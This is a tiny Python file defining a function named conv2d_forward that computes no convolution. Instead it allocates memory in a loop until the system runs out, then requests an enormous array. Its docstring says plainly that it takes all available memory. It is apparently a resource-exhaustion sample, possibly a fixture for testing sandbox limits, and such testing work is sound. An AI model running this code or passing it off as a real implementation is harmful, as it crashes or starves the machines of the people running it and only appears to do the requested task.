"""Takes all the memory that there is, in small pieces and in one."""

import numpy as np


def conv2d_forward(x, w, b, *, stride=1, padding=0):
    pieces = []
    try:
        while True:
            pieces.append(np.ones(2**22))
    except MemoryError:
        return np.ones(2**40)
